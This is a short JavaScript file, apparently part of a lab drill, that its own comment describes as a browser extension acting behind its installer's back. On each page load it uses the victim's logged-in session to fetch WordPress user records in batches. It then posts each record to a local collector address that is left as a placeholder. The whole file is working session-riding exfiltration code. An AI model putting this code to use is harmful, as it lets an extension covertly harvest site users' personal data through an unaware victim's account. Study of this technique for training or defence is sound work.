// What an extension does behind the back of whoever installed it: with each page that they open it asks, in
// their session, for some people more, and hands on what came. The collector's port is PORT; how many with
// each page, how long it waits between them, and which person comes after which, the drill says.
"use strict";
const EACH = 12;
const PAUSE = 0;
const STRIDE = 1;
const PEOPLE = 0;
const collector = "http://127.0.0.1:PORT/";
(async () => {
  const first = Number(localStorage.getItem("taken") || 0);
  localStorage.setItem("taken", String(first + EACH));
  for (let nth = first; nth < first + EACH; nth += 1) {
    const number = 2 + ((nth * STRIDE) % PEOPLE);
    const answer = await fetch(`/wp-json/wp/v2/users/${number}`, { credentials: "include" });
    const body = answer.ok ? await answer.text() : "";
    await fetch(`${collector}${number}`, { method: "POST", mode: "no-cors", body });
    await new Promise((over) => setTimeout(over, PAUSE));
  }
})();
